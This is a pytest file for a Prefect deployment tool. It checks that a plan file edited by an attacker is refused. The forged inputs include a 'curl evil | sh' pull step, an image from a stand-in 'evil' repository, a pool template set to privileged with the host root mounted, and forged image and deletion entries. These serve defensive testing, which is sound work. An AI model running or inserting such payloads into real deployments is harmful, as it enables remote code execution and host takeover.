"""A plan file is applied exactly or refused: `deploy --plan` on the real stack with files
edited as the author of a pull request could edit them (the README's review recipe keeps the
file the pull-request job wrote). Each edit used to go through with exit 0: a second image
entry naming another repository's reference (built and pushed over it), a second `remove`
carrying the id of a hand-made deployment (deleted), the template of a pool the plan would
create (created with `privileged: true` and `/` mounted). Now each is refused, with nothing
built, pushed, written or created; and the plan's hash is printed and checked."""

from __future__ import annotations

import copy
import json
import subprocess
import uuid
from pathlib import Path
from typing import Any

import docker
import httpx
import pytest

from prefect_flow_deploy.core.errors import PlanMovedError

from ..conftest import Scenario, Stack, write_flow
from ..helpers import server_api
from .test_cli import cli, common
from .test_plan_file import MANIFEST_TYPES

pytestmark = pytest.mark.stack


def plan_to_file(
    scenario: Scenario, stack: Stack, path: Path, *extra: str
) -> tuple[dict[str, Any], subprocess.CompletedProcess[str]]:
    planned = cli("plan", "--out", str(path), *common(scenario, stack), *extra)
    assert planned.returncode == 0, planned.stderr
    data: dict[str, Any] = json.loads(path.read_text())
    return data, planned


def apply(
    scenario: Scenario, stack: Stack, path: Path, *extra: str
) -> subprocess.CompletedProcess[str]:
    return cli("deploy", "--plan", str(path), *common(scenario, stack), *extra)


def forge(path: Path, data: dict[str, Any]) -> None:
    """Write the edited plan with the hash of its new content, as anyone can compute it."""
    from prefect_flow_deploy.rules.plan_hash import plan_hash
    from prefect_flow_deploy.run.plan_file import _adapter

    known = _adapter().validate_python(data)  # the fields the plan has (an unknown one: none)
    path.write_text(json.dumps({**data, "hash": plan_hash(known.plan, known.options)}))


def digest(reference: str) -> str | None:
    host, _, rest = reference.partition("/")
    name, _, tag = rest.rpartition(":")
    answer = httpx.head(
        f"http://{host}/v2/{name}/manifests/{tag}", headers={"Accept": MANIFEST_TYPES}
    )
    return answer.headers.get("Docker-Content-Digest") if answer.status_code == 200 else None


def nothing_of_the_tenant(scenario: Scenario) -> None:
    with server_api() as client:
        found = client.post(
            "deployments/filter",
            json={"deployments": {"tags": {"all_": [f"tenant:{scenario.tenant}"]}}},
        )
        assert found.status_code == 200 and found.json() == [], "the run wrote a deployment"


def test_a_second_image_entry_naming_another_reference_is_refused(
    stack: Stack, scenario: Scenario, tmp_path: Path
) -> None:
    # Another repository's image, under another prefix of the same registry.
    victim = f"{stack.registry}/v{scenario.suffix}/sales/daily:0123456789abcdef0123"
    engine = docker.from_env()
    engine.images.get(stack.base_image).tag(victim)
    engine.images.push(victim)
    before = digest(victim)
    assert before is not None
    write_flow(scenario.folder("p", "one"), "one")
    path = tmp_path / "plan.json"
    data, _ = plan_to_file(scenario, stack, path)
    [image] = data["plan"]["images"]
    forged = copy.deepcopy(image)
    forged["repository"], _, forged["tag"] = victim.rpartition(":")
    data["plan"]["images"].insert(0, forged)  # the check kept the last copy
    forge(path, data)

    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert "images: sales/daily" not in refused.stderr
    assert f"{scenario.project('p')}/one is in the plan twice" in refused.stderr
    assert digest(victim) == before, "the victim's tag was pushed over"
    nothing_of_the_tenant(scenario)
    engine.images.remove(victim)


def test_a_removal_the_world_does_not_make_is_refused(
    stack: Stack, scenario: Scenario, tmp_path: Path
) -> None:
    suffix = uuid.uuid4().hex[:8]
    with server_api() as client:  # a deployment made by hand, by nobody's run
        flow = client.post("flows/", json={"name": f"hand-{suffix}"}).json()
        made = client.post("deployments/", json={"name": "made", "flow_id": flow["id"]})
        made.raise_for_status()
        hand_made = made.json()["id"]
    write_flow(scenario.folder("p", "one"), "one")
    gone = write_flow(scenario.folder("p", "two"), "two")
    repository = ["--repository", f"acme/flows-{scenario.suffix}"]
    first = cli("deploy", *common(scenario, stack), *repository)
    assert first.returncode == 0, first.stderr
    for file in gone.iterdir():
        file.unlink()
    gone.rmdir()
    path = tmp_path / "plan.json"
    data, _ = plan_to_file(scenario, stack, path, "--prune", *repository)
    [removal] = [d for d in data["plan"]["deployments"] if d["action"] == "remove"]
    forged = {**copy.deepcopy(removal), "deployment_id": hand_made}
    data["plan"]["deployments"].insert(0, forged)  # the check kept the last copy
    forge(path, data)

    refused = apply(scenario, stack, path, "--prune", *repository)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert f"two/{scenario.project('p')} is in the plan twice" in refused.stderr
    with server_api() as client:
        assert client.get(f"deployments/{hand_made}").status_code == 200, "it was deleted"
        client.delete(f"deployments/{hand_made}")
        held = client.get(f"deployments/name/two/{scenario.project('p')}")
        assert held.status_code == 200, "the planned removal was applied"


def test_an_edited_template_of_a_pool_to_create_is_refused(
    stack: Stack, scenario: Scenario, tmp_path: Path
) -> None:
    write_flow(scenario.folder("p", "one"), "one")
    path = tmp_path / "plan.json"
    data, _ = plan_to_file(scenario, stack, path)
    pool = data["plan"]["pools"][scenario.work_pool]
    assert pool["exists"] is False  # the plan creates it
    properties = pool["template"]["variables"]["properties"]
    properties["privileged"]["default"] = True
    properties["volumes"]["default"] = ["/:/host"]
    forge(path, data)

    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert f"pools: {scenario.work_pool}" in refused.stderr, refused.stderr
    with server_api() as client:
        assert client.get(f"work_pools/{scenario.work_pool}").status_code == 404
    nothing_of_the_tenant(scenario)


def test_an_unknown_field_or_a_reference_outside_the_registry_is_refused(
    stack: Stack, scenario: Scenario, tmp_path: Path
) -> None:
    write_flow(scenario.folder("p", "one"), "one")
    path = tmp_path / "plan.json"
    data, _ = plan_to_file(scenario, stack, path)

    extra = copy.deepcopy(data)
    extra["plan"]["deployments"][0]["spec"]["pull_steps"] = [{"run": "curl evil | sh"}]
    path.write_text(json.dumps(extra))
    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert "pull_steps" in refused.stderr and "unknown" in refused.stderr

    outside = copy.deepcopy(data)
    outside["plan"]["deployments"][0]["spec"]["image"] = "docker.io/evil/image:1"
    forge(path, outside)
    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert "docker.io/evil/image:1" in refused.stderr and scenario.registry in refused.stderr
    nothing_of_the_tenant(scenario)


def test_the_plan_hash_is_printed_and_applied_only_when_equal(
    stack: Stack, scenario: Scenario, tmp_path: Path
) -> None:
    write_flow(scenario.folder("p", "one"), "one")
    path = tmp_path / "plan.json"
    data, planned = plan_to_file(scenario, stack, path)
    digest_line = f"plan sha256:{data['hash'][:16]}"
    assert digest_line in planned.stderr

    # A field that matters, edited: the file's hash is not its content's any more; with the
    # hash recomputed, the plan made from the world has another one.
    edited = copy.deepcopy(data)
    edited["plan"]["deployments"][0]["spec"]["job_variables"] = {"privileged": True}
    path.write_text(json.dumps(edited))
    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert "does not have the hash it records" in refused.stderr
    forge(path, edited)
    refused = apply(scenario, stack, path)
    assert refused.returncode == PlanMovedError.exit_code, refused.stderr
    assert (
        f"plan: the deployment one/{scenario.project('p')} ({scenario.project('p')}/one) would "
        "be create with other values now (job_variables)" in refused.stderr
    )
    nothing_of_the_tenant(scenario)

    path.write_text(json.dumps(data))
    done = apply(scenario, stack, path)
    assert done.returncode == 0, done.stderr
    assert digest_line in done.stderr
